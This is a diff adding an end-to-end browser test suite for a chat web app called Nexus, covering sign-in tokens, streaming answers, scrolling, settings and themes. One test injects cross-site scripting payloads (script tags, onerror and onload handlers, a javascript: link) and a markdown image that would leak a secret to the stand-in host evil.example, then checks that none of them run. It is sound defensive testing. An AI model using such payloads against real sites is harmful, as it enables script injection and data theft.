@@ -1,0 +1,306 @@
+import type { Browser } from "playwright-core";
+import { afterAll, beforeAll, expect, test } from "vitest";
+import { launch, Visit } from "./browser.ts";
+import { Nexus } from "./nexus.ts";
+import { Provider } from "./provider.ts";
+
+let browser: Browser;
+let provider: Provider;
+let nexus: Nexus;
+
+beforeAll(async () => {
+  provider = await Provider.start();
+  [nexus, browser] = await Promise.all([Nexus.start(provider.url), launch()]);
+});
+
+afterAll(async () => {
+  await browser?.close();
+  await nexus?.stop();
+  provider?.stop();
+});
+
+const DESKTOP = { viewport: { width: 1280, height: 800 } };
+const PHONE = { viewport: { width: 360, height: 740 }, hasTouch: true, isMobile: true };
+
+/** Answers with the scripted model, whatever the person's own model is. */
+async function pickScripted(visit: Visit): Promise<void> {
+  await visit.page.getByLabel("Model for the next message").selectOption("local");
+}
+
+test("the first screen tells how to get a token, and refuses what is none", async () => {
+  const visit = await Visit.begin(browser, nexus.url, DESKTOP);
+  const { page } = visit;
+  await page.getByText("./target/release/nexus identity new").waitFor();
+  await visit.expectAccessible();
+  await visit.picture("sign-in");
+
+  await page.getByLabel("Your token").fill("0x5aaeb6053f3e94c9b9a09f33669435e7ef1beaed");
+  await page.keyboard.press("Enter");
+  await page.getByText("This is a public key").waitFor();
+
+  await page.getByLabel("Your token").fill(`nxd_${"a".repeat(49)}`);
+  await page.keyboard.press("Enter");
+  await page.getByText("This token is not accepted").waitFor();
+  await visit.expectAccessible();
+  await visit.end();
+});
+
+test("the token stays with the tab, or longer only when asked to, and signing out forgets it", async () => {
+  const { token } = await nexus.member();
+  const visit = await Visit.begin(browser, nexus.url);
+  const { page } = visit;
+  const kept = (): Promise<boolean[]> =>
+    page.evaluate(() => [sessionStorage, localStorage].map((one) => one.getItem("nexus.token") !== null));
+
+  await visit.signIn(token);
+  expect(await kept()).toEqual([true, false]);
+  await page.getByRole("button", { name: "Sign out" }).click();
+  expect(await kept()).toEqual([false, false]);
+
+  await page.getByLabel("Keep it on this computer").check();
+  await visit.signIn(token);
+  expect(await kept()).toEqual([false, true]);
+  await page.getByRole("button", { name: "Sign out" }).click();
+  expect(await kept()).toEqual([false, false]);
+  expect(page.url()).not.toContain("nxd_");
+  await visit.end();
+});
+
+test("a member asks, sees the answer, and finds both again after a reload", async () => {
+  const { token } = await nexus.member();
+  const visit = await Visit.begin(browser, nexus.url, DESKTOP);
+  const { page } = visit;
+  await visit.signIn(token);
+  await page.getByText("answers you").waitFor();
+  await visit.expectAccessible();
+  await visit.picture("welcome");
+
+  const message = page.getByLabel("Your message");
+  await message.fill("First line");
+  await page.keyboard.press("Shift+Enter");
+  await page.keyboard.type("second line");
+  expect(await message.inputValue()).toBe("First line\nsecond line");
+  await page.keyboard.press("Enter");
+  await page.getByRole("article").getByText("a mirror and not an AI").waitFor();
+  await page.getByText("at builtin").waitFor();
+  expect(await page.locator("[aria-live=polite]", { hasText: "Answer: I am" }).count()).toBe(1);
+
+  await page.reload();
+  await page.getByText("a mirror and not an AI").waitFor();
+  await page.getByText("First line second line").first().waitFor();
+  expect(await page.getByRole("log").getByRole("article").count()).toBe(1);
+  await visit.expectAccessible();
+  await visit.end();
+});
+
+test("words appear while the model still speaks, and what it thought is folded", async () => {
+  const { token } = await nexus.member();
+  const visit = await Visit.begin(browser, nexus.url);
+  const { page } = visit;
+  await visit.signIn(token);
+  await pickScripted(visit);
+  provider.says({ reasoning: "A secret thought.", answer: "One two three four five", holdAfter: 3 });
+  await visit.ask("Count");
+  await page.getByText(/One two/).waitFor();
+  await page.getByRole("button", { name: "Stop" }).waitFor();
+  expect(await page.getByText("A secret thought.").isVisible()).toBe(false);
+  expect(await page.getByText("five").count()).toBe(0);
+
+  provider.goOn();
+  await page.getByText("One two three four five").first().waitFor();
+  await page.getByText("1,204 tokens in, 187 out").waitFor();
+  await page.getByText("What it thought first").click();
+  await page.getByText("A secret thought.").waitFor();
+  await visit.end();
+});
+
+test("stopping keeps what was read, and the server keeps the whole answer", async () => {
+  const { token } = await nexus.member();
+  const visit = await Visit.begin(browser, nexus.url);
+  const { page } = visit;
+  await visit.signIn(token);
+  await pickScripted(visit);
+  provider.says({ answer: "Alpha beta gamma delta omega", holdAfter: 2 });
+  await visit.ask("Go");
+  await page.getByText(/Alpha/).waitFor();
+  await page.getByRole("button", { name: "Stop" }).click();
+  await page.getByText("The server finishes the answer and keeps it.").waitFor();
+  expect(await page.getByText("omega").count()).toBe(0);
+  expect(await page.getByRole("article").count()).toBe(1);
+
+  provider.goOn();
+  await expect
+    .poll(async () => {
+      const show = page.getByRole("button", { name: "Show the whole answer" });
+      if (await show.isVisible()) await show.click();
+      return page.getByText("Alpha beta gamma delta omega").count();
+    })
+    .toBeGreaterThan(0);
+  expect(await page.getByRole("article").count()).toBe(1);
+  await visit.end();
+});
+
+test("an answer that breaks off says so, and the reader can ask again", async () => {
+  const { token } = await nexus.member();
+  const visit = await Visit.begin(browser, nexus.url);
+  await visit.signIn(token);
+  await pickScripted(visit);
+  provider.says({ answer: "This will not end well", holdAfter: 3, breakOff: true });
+  await visit.ask("Try");
+  await visit.page.getByText(/This will/).waitFor();
+  provider.goOn();
+  await visit.page.getByRole("article").getByText("The answer broke off").waitFor();
+  provider.says({ answer: "A second try." });
+  await visit.page.getByRole("button", { name: "Ask again" }).click();
+  await visit.page.getByRole("article").nth(1).getByText("A second try.").waitFor();
+  await visit.expectAccessible();
+  await visit.end();
+});
+
+test("new words do not pull a reader back who has scrolled up", async () => {
+  const { token } = await nexus.member();
+  const visit = await Visit.begin(browser, nexus.url, DESKTOP);
+  const { page } = visit;
+  await visit.signIn(token);
+  await pickScripted(visit);
+  // Three pieces each.
+  const long = Array.from({ length: 60 }, (_, index) => `Paragraph ${index}.\n\n`).join("");
+  provider.says({ answer: `${long}${long}`, holdAfter: 180 });
+  await visit.ask("A long one");
+  const log = page.getByRole("log");
+  const fromEnd = (): Promise<number> =>
+    log.evaluate((node) => node.scrollHeight - node.scrollTop - node.clientHeight);
+  await page.getByText("Paragraph 58.").first().waitFor();
+  await expect.poll(fromEnd).toBeLessThan(2);
+
+  await log.hover();
+  await page.mouse.wheel(0, -700);
+  await page.getByRole("button", { name: "Newest" }).waitFor();
+  const place = await log.evaluate((node) => node.scrollTop);
+  provider.goOn();
+  await page.getByText("Paragraph 59.").nth(1).waitFor();
+  expect(await log.evaluate((node) => node.scrollTop)).toBe(place);
+
+  await page.getByRole("button", { name: "Newest" }).click();
+  await expect.poll(fromEnd).toBeLessThan(2);
+  await visit.end();
+});
+
+test("older messages are loaded on request, and the reader stays where they were", async () => {
+  const { token } = await nexus.member();
+  const visit = await Visit.begin(browser, nexus.url, DESKTOP);
+  const { page } = visit;
+  await page.evaluate(async (bearer) => {
+    for (let index = 0; index < 30; index += 1) {
+      const headers = { Authorization: `Bearer ${bearer}`, "Content-Type": "application/json" };
+      const body = JSON.stringify({ content: `Question ${index}.` });
+      await (await fetch("/api/v1/chat", { method: "POST", headers, body })).text();
+    }
+  }, token);
+  await visit.signIn(token);
+  const articles = page.getByRole("article");
+  await expect.poll(() => articles.count()).toBe(25);
+  await page.getByRole("button", { name: "Load older messages" }).click();
+  await expect.poll(() => articles.count()).toBe(30);
+  expect(await page.getByRole("button", { name: "Load older messages" }).count()).toBe(0);
+  expect(await page.getByText("Question 5.").first().isVisible()).toBe(true);
+  await visit.end();
+});
+
+test("the settings tell where each value comes from, and how to change it", async () => {
+  const { key, token } = await nexus.member();
+  await nexus.cli("config", "set", key, "temperature", "0.5");
+  const visit = await Visit.begin(browser, nexus.url, DESKTOP);
+  const { page } = visit;
+  await visit.signIn(token);
+  await page.getByRole("button", { name: /My settings/ }).click();
+  const card = page.getByRole("article").filter({ has: page.getByRole("heading", { name: "Temperature" }) });
+  await card.getByText("from you").waitFor();
+  expect(await card.innerText()).toMatch(/0\.5[\s\S]*Hides 0\.\d from this server's defaults/);
+  await card.getByText("Change it").click();
+  await card.getByRole("button", { name: "Copy the command that changes Temperature" }).click();
+  const copied = await page.evaluate(() => navigator.clipboard.readText());
+  expect(copied.toLowerCase()).toBe(`nexus config set ${key} temperature 0.5`.toLowerCase());
+  await nexus.cli(...copied.split(" ").slice(1));
+
+  const rules = page.getByRole("article").filter({ has: page.getByRole("heading", { name: "Rules" }) });
+  await rules.getByText("This server does not let people change this text.").waitFor();
+  await rules.getByText("Read the text").click();
+  await visit.expectAccessible();
+  await page.keyboard.press("Escape");
+  expect(await page.getByRole("dialog").count()).toBe(0);
+  await visit.end();
+});
+
+test("a visitor is told how to become a member, and nothing is kept", async () => {
+  const { token } = await nexus.visitor();
+  const visit = await Visit.begin(browser, nexus.url, DESKTOP);
+  const { page } = visit;
+  await visit.signIn(token);
+  await page.getByText("Welcome, visitor.").waitFor();
+  await visit.ask("May I come in?");
+  await page.getByRole("article").getByText("nexus identity new KEY").waitFor();
+  await visit.expectAccessible();
+  await page.reload();
+  await page.getByText("Welcome, visitor.").waitFor();
+  expect(await page.getByRole("article").count()).toBe(0);
+  await visit.end();
+});
+
+test("nothing that a question, a persona or a model says is ever run", async () => {
+  const { key, token } = await nexus.member();
+  const payload = [
+    "<img src=x onerror=\"window.hacked=1;alert(1)\">",
+    "<script>window.hacked=1</script>",
+    "[click](javascript:window.hacked=1)",
+    "![leak](https://evil.example/?q=secret)",
+    "<svg onload=window.hacked=1>",
+  ].join("\n\n");
+  await nexus.cli("prompt", "set", key, "persona", payload);
+  const visit = await Visit.begin(browser, nexus.url);
+  const { page } = visit;
+  await visit.signIn(token);
+  await visit.askAndWait(payload);
+  await pickScripted(visit);
+  provider.says({ answer: payload, reasoning: payload });
+  await visit.askAndWait(payload);
+  await page.getByText("What it thought first").click();
+  await page.getByRole("button", { name: /My settings/ }).click();
+  await page.getByText("Read the text").first().click();
+  await page.keyboard.press("Escape");
+  for (const link of await page.getByRole("link").all()) {
+    expect(await link.getAttribute("href")).toMatch(/^https:\/\/evil\.example\//);
+    expect(await link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
+  }
+  expect(await page.locator("img, iframe, object, [onerror], [onload]").count()).toBe(0);
+  expect(await page.evaluate(() => "hacked" in window)).toBe(false);
+  await visit.end();
+});
+
+test("the page is whole on a small phone and in the dark, and a choice of colours is kept", async () => {
+  const { token } = await nexus.member();
+  for (const [name, options] of [
+    ["phone", PHONE],
+    ["dark", { ...DESKTOP, colorScheme: "dark" as const }],
+  ] as const) {
+    const visit = await Visit.begin(browser, nexus.url, options);
+    await visit.expectNoSidewaysScrolling();
+    await visit.signIn(token);
+    await visit.askAndWait("How do you look here?");
+    await visit.expectNoSidewaysScrolling();
+    await visit.expectAccessible();
+    await visit.picture(name);
+    await visit.page.getByRole("button", { name: /My settings/ }).click();
+    await visit.page.getByText("Template version").waitFor();
+    await visit.expectNoSidewaysScrolling();
+    await visit.expectAccessible();
+    await visit.picture(`${name}-settings`);
+    await visit.page.keyboard.press("Escape");
+    const colours = visit.page.getByRole("button", { name: /^Colours/ });
+    await colours.click();
+    await colours.click();
+    await visit.page.reload();
+    expect(await visit.page.evaluate(() => document.documentElement.dataset.theme)).toBe("dark");
+    await visit.end();
+  }
+});
